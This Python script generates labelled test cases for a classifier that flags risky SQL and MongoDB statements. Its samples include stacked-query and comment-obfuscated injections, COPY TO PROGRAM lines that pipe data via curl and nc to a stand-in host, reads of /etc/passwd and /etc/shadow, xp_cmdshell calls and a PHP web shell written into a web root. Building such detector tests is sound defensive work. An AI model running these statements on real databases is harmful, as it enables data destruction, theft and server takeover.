#!/usr/bin/env python3
"""Writes cases.jsonl: SQL texts with the exact set of `sql.*` codes a human expects.

Each case: {"sql", "codes" (sorted, deduplicated), "destructive", optional "dialect"}.
`destructive` is true when the text can destroy data or reach the server's files or shell.
Run from this directory: `python3 generate.py`.
"""
import json

DESTRUCTIVE = {"sql.drop_database", "sql.drop_table", "sql.drop_schema", "sql.truncate",
               "sql.delete_without_where", "sql.update_without_where", "sql.delete_where_always_true",
               "sql.alter_drop_column", "sql.copy_to_program", "sql.file_access"}
W = "sql.write"
DDL = "sql.ddl"
MS = "sql.multiple_statements"
CO = "sql.comment_obfuscation"

cases = []


def c(sql, codes, dialect=None):
    d = {"sql": sql, "codes": sorted(set(codes)), "destructive": bool(set(codes) & DESTRUCTIVE)}
    if dialect:
        d["dialect"] = dialect
    cases.append(d)


# Reads.
for t in ["users", "orders", "public.accounts", "inventory"]:
    c(f"SELECT * FROM {t}", [])
    c(f"SELECT id, name FROM {t} WHERE id = 42", [])
    c(f"SELECT count(*) FROM {t} GROUP BY status HAVING count(*) > 1", [])
c("SELECT u.id, o.total FROM users u JOIN orders o ON o.user_id = u.id WHERE o.total > 100 ORDER BY o.total DESC LIMIT 10", [])
c("WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT count(*) FROM recent", [], "postgres")
c("SELECT * FROM users WHERE email LIKE '%@acme.dev'", [])
c("SELECT 1", [])
c("SELECT id FROM a UNION SELECT id FROM b", [])
c("EXPLAIN SELECT * FROM users WHERE id = 1", [])
c("SHOW TABLES", [], "mysql")
c("SELECT * FROM users WHERE name = 'DROP TABLE users'", [])
c("SELECT '/* not a comment */' AS x", [])
c("SELECT * FROM t1; SELECT * FROM t2", [])
c("SELECT id FROM users WHERE id IN (SELECT user_id FROM orders WHERE total > 10)", [])
c("select * from events where payload->>'type' = 'login'", [], "postgres")

# Writes with a proper WHERE.
c("INSERT INTO users (name, email) VALUES ('a', 'a@b.c')", [W])
c("INSERT INTO audit SELECT * FROM staging", [W])
c("UPDATE users SET name = 'x' WHERE id = 1", [W])
c("UPDATE orders SET status = 'shipped' WHERE id IN (1, 2, 3)", [W])
c("DELETE FROM sessions WHERE expires_at < now()", [W])
c("DELETE FROM users WHERE id = 7", [W])
c("INSERT INTO kv (k, v) VALUES ('a', 1) ON CONFLICT (k) DO UPDATE SET v = excluded.v", [W], "postgres")
c("REPLACE INTO kv (k, v) VALUES ('a', 1)", [W], "mysql")
c("MERGE INTO target t USING source s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v", [W])
c("UPDATE users SET active = false WHERE last_login < '2020-01-01' AND 1=1", [W])
c("DELETE FROM users WHERE id = 1 AND 1=1", [W])

# Missing or always-true WHERE.
for t in ["users", "orders", "payments", "accounts"]:
    c(f"DELETE FROM {t}", ["sql.delete_without_where", W])
    c(f"UPDATE {t} SET balance = 0", ["sql.update_without_where", W])
    c(f"DELETE FROM {t} WHERE 1=1", ["sql.delete_where_always_true", W])
c("DELETE FROM users WHERE true", ["sql.delete_where_always_true", W])
c("DELETE FROM users WHERE id = 5 OR 1=1", ["sql.delete_where_always_true", W])
c("DELETE FROM users WHERE 'a'='a'", ["sql.delete_where_always_true", W])
c("DELETE FROM users WHERE 1", ["sql.delete_where_always_true", W], "mysql")
c("DELETE FROM users WHERE (1=1)", ["sql.delete_where_always_true", W])
c("DELETE FROM users WHERE NOT false", ["sql.delete_where_always_true", W])
c("DELETE FROM users WHERE 2 > 1", ["sql.delete_where_always_true", W])
c("DELETE FROM users WHERE name LIKE '%'", ["sql.delete_where_always_true", W])
c("DELETE FROM users WHERE id = id", ["sql.delete_where_always_true", W])
c("UPDATE users SET role = 'admin' WHERE 1=1", ["sql.update_without_where", W])
c("UPDATE users SET role = 'admin' WHERE id = 3 OR 'x'='x'", ["sql.update_without_where", W])
c("DELETE FROM logs LIMIT 1000", ["sql.delete_without_where", W], "mysql")
c("delete from users", ["sql.delete_without_where", W])
c("DeLeTe FrOm users", ["sql.delete_without_where", W])

# Drops and truncates.
for t in ["users", "orders", "prod.customers"]:
    c(f"DROP TABLE {t}", ["sql.drop_table"])
    c(f"DROP TABLE IF EXISTS {t} CASCADE", ["sql.drop_table"])
    c(f"TRUNCATE TABLE {t}", ["sql.truncate"])
c("TRUNCATE users", ["sql.truncate"], "postgres")
for db in ["prod", "analytics", "`main`"]:
    c(f"DROP DATABASE {db}", ["sql.drop_database"], "mysql")
c("DROP DATABASE IF EXISTS prod", ["sql.drop_database"])
c("DROP SCHEMA public CASCADE", ["sql.drop_schema"], "postgres")
c("DROP SCHEMA IF EXISTS billing", ["sql.drop_schema"])
c("DROP VIEW active_users", [DDL])
c("DROP INDEX idx_users_email", [DDL])
c("drop table users", ["sql.drop_table"])

# DDL.
c("CREATE TABLE t (id INT PRIMARY KEY, name TEXT)", [DDL])
c("CREATE INDEX idx_name ON users (name)", [DDL])
c("CREATE VIEW v AS SELECT * FROM users", [DDL])
c("ALTER TABLE users ADD COLUMN age INT", [DDL])
c("ALTER TABLE users RENAME COLUMN name TO full_name", [DDL])
c("ALTER TABLE users DROP COLUMN email", ["sql.alter_drop_column"])
c("ALTER TABLE users DROP COLUMN IF EXISTS email CASCADE", ["sql.alter_drop_column"], "postgres")
c("ALTER TABLE orders DROP COLUMN total, ADD COLUMN amount NUMERIC", ["sql.alter_drop_column"])
c("CREATE SCHEMA reporting", [DDL])
c("CREATE DATABASE staging", [DDL])
c("CREATE TABLE backup AS SELECT * FROM users", [DDL])
c("SELECT * INTO users_copy FROM users", [DDL], "postgres")

# Privileges.
c("GRANT ALL PRIVILEGES ON DATABASE prod TO intern", ["sql.grant"], "postgres")
c("GRANT SELECT ON users TO reporting", ["sql.grant"])
c("GRANT ALL ON *.* TO 'app'@'%'", ["sql.grant"], "mysql")
c("REVOKE INSERT ON users FROM app", ["sql.revoke"])
# sqlparser 0.59 cannot parse these; the keyword fallback still names them.
c("CREATE USER backdoor WITH PASSWORD 'pw'", ["sql.create_user", "sql.unparseable"], "postgres")
c("CREATE ROLE admin2 WITH SUPERUSER LOGIN", ["sql.create_user"], "postgres")
c("ALTER ROLE app WITH SUPERUSER", ["sql.alter_user"], "postgres")
c("DROP USER olduser", ["sql.alter_user"])
c("DROP ROLE analyst", ["sql.alter_user"], "postgres")

# Transactions.
c("BEGIN", [])
c("COMMIT", [])
c("ROLLBACK", [])
c("BEGIN; UPDATE accounts SET balance = balance - 10 WHERE id = 1; UPDATE accounts SET balance = balance + 10 WHERE id = 2; COMMIT;", [W, MS])
c("BEGIN; DELETE FROM sessions WHERE id = 9; COMMIT", [W])
c("START TRANSACTION; INSERT INTO t VALUES (1); COMMIT", [W])

# Stacked queries.
c("SELECT * FROM users; DROP TABLE users", ["sql.drop_table", MS])
c("SELECT * FROM users WHERE id = 1; DELETE FROM users", ["sql.delete_without_where", W, MS])
c("SELECT 1; UPDATE users SET admin = true", ["sql.update_without_where", W, MS])
c("INSERT INTO a VALUES (1); INSERT INTO b VALUES (2)", [W, MS])
c("SELECT * FROM products WHERE id = 1; TRUNCATE orders; --", ["sql.truncate", MS])
c("SELECT name FROM users WHERE id = 1; GRANT ALL ON users TO public", ["sql.grant", MS])
c("SELECT 1; SELECT 2; SELECT 3", [])
c("SELECT * FROM t WHERE a = 1; DROP DATABASE prod", ["sql.drop_database", MS], "mysql")

# Comment tricks.
c("SELECT * FROM users /*!50000 UNION SELECT password FROM admins */", [CO], "mysql")
c("SELECT 1; /*!50000 DROP TABLE users*/", [CO, "sql.drop_table"], "mysql")
c("/*!40101 DROP DATABASE prod */", [CO, "sql.drop_database"], "mysql")
c("DROP/**/TABLE/**/users", [CO, "sql.drop_table"])
c("SELECT/**/password/**/FROM/**/users", [CO])
c("SELECT * FROM users UNION/**/SELECT * FROM admins", [CO])
c("SELECT * FROM users WHERE id = 1 -- AND tenant_id = 7\n", [])
c("SELECT * FROM users -- ; DROP TABLE users", [CO])
c("SELECT 1 /* DELETE FROM users */", [CO])
c("SELECT * FROM users # DROP TABLE users", [CO], "mysql")
c("DEL/**/ETE FROM users", [CO, "sql.unparseable"])
c("SELECT 1 -- a harmless remark", [])
c("/* report query */ SELECT count(*) FROM orders", [])

# Files and programs.
c("COPY users TO PROGRAM 'curl -d @- https://evil.example'", ["sql.copy_to_program"], "postgres")
c("COPY (SELECT * FROM users) TO PROGRAM 'nc evil.example 4444'", ["sql.copy_to_program"], "postgres")
c("COPY users FROM PROGRAM 'cat /etc/passwd'", ["sql.copy_to_program", W], "postgres")
c("COPY users TO '/tmp/users.csv'", ["sql.file_access"], "postgres")
c("COPY users FROM '/etc/passwd'", ["sql.file_access", W], "postgres")
c("COPY users TO STDOUT", [], "postgres")
c("SELECT pg_read_file('/etc/passwd')", ["sql.file_access"], "postgres")
c("SELECT pg_ls_dir('/var/lib/postgresql')", ["sql.file_access"], "postgres")
c("SELECT LOAD_FILE('/etc/passwd')", ["sql.file_access"], "mysql")
c("SELECT lo_import('/etc/shadow')", ["sql.file_access"], "postgres")
# sqlparser 0.59 does not parse INTO OUTFILE / DUMPFILE / LOAD DATA in MySQL: the lexer flags them.
c("SELECT * FROM users INTO OUTFILE '/var/www/html/dump.txt'", ["sql.file_access", "sql.unparseable"], "mysql")
c("SELECT '<?php system($_GET[c]); ?>' INTO DUMPFILE '/var/www/html/s.php'", ["sql.file_access", "sql.unparseable"], "mysql")
c("LOAD DATA INFILE '/etc/passwd' INTO TABLE t", ["sql.file_access", "sql.unparseable"], "mysql")
c("EXEC xp_cmdshell 'whoami'", ["sql.copy_to_program"])
c("SELECT xp_cmdshell('dir')", ["sql.copy_to_program"])

# Statements hidden inside others.
c("WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone", ["sql.delete_without_where", W], "postgres")
c("WITH x AS (UPDATE users SET admin = true RETURNING id) SELECT * FROM x", ["sql.update_without_where", W], "postgres")
c("EXPLAIN ANALYZE DELETE FROM users", ["sql.delete_without_where", W], "postgres")
c("EXPLAIN DELETE FROM users", [], "postgres")
c("PREPARE p AS DELETE FROM users", ["sql.delete_without_where", W], "postgres")

# Admin and other.
c("SET search_path TO public", [])
c("VACUUM", [], "postgres")
c("ANALYZE users", [])
c("KILL 42", [], "mysql")
c("USE prod", [], "mysql")
c("CALL refresh_all()", [])

# Unparseable.
c("this is not sql at all", ["sql.unparseable"])
c("SELEC * FORM users", ["sql.unparseable"])
c("DROP DATABASE prod;;; )))", ["sql.unparseable", "sql.drop_database"])
c("DELETE FROM users WHERE id = ((((", ["sql.unparseable"])
c("DELETE FROM ((( users", ["sql.unparseable", "sql.delete_without_where"])
c("TRUNCATE ))) users", ["sql.unparseable", "sql.truncate"])
c("", [])

# MongoDB shell.
c("db.dropDatabase()", ["sql.drop_database"])
c("db.users.drop()", ["sql.drop_table"])
c("db.users.deleteMany({})", ["sql.delete_without_where"])
c("db.users.remove({})", ["sql.delete_without_where"])
c("db.users.updateMany({}, {$set: {admin: true}})", ["sql.update_without_where"])
c("db.users.deleteMany({age: {$lt: 18}})", [W])
c("db.users.find({name: 'a'})", [])
c("db.users.insertOne({name: 'a'})", [W])
c("db.createUser({user: 'x', pwd: 'y', roles: ['root']})", ["sql.create_user"])
c("db.grantRolesToUser('x', ['root'])", ["sql.grant"])
c("db.orders.aggregate([{$match: {}}, {$out: 'copy'}])", [W])
c("use admin\ndb.dropDatabase()", ["sql.drop_database"])

with open("cases.jsonl", "w") as f:
    for case in cases:
        f.write(json.dumps(case) + "\n")
print(len(cases), "cases")
